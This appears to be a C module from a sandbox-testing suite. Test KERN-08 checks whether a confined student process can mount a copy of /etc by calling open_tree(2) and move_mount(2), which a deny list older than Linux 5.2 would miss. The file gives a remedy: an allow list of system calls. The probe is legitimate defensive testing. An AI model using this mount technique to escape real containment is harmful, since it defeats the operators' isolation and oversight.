// SPDX-License-Identifier: MIT
/*
 * Goal:  a part of the kernel that no student needs.
 * Means: a mount without mount(2): open_tree(2) copies the tree below a folder as fork(2) copies a
 *        process, and move_mount(2) puts the copy elsewhere. Lists made before Linux 5.2 have
 *        neither.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char path[64];
	int tree;

	snprintf(path, sizeof(path), "/tmp/%s", b->name);
	if (mkdir(path, 0700) && mkdir(b->name, 0700))
		return failed("mkdir");
	attempting(b);
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return denied("unshare");
	tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/etc", OPEN_TREE_CLONE | AT_RECURSIVE);
	if (tree < 0)
		return denied("open_tree");
	if (syscall(SYS_move_mount, tree, "", AT_FDCWD, path, MOVE_MOUNT_F_EMPTY_PATH))
		return denied("move_mount");
	return hold();
}

const struct attack attack = {
	.effect = "the student's process mounts a folder where it likes",
	.means = "open_tree(2) with OPEN_TREE_CLONE, and move_mount(2)",
	.oracle = "reach:mount",
	.needs = NEED_USERNS,
	.id = "KERN-08",
	.attack_id = "T1068, T1611, CWE-1125, CWE-184",
	.remedy = "an allow list of system calls: what is newer than the list is not on it",
	.refs = (const char *const[]){ "open_tree(2)", "move_mount(2), since Linux 5.2", NULL },
	.run = run,
};
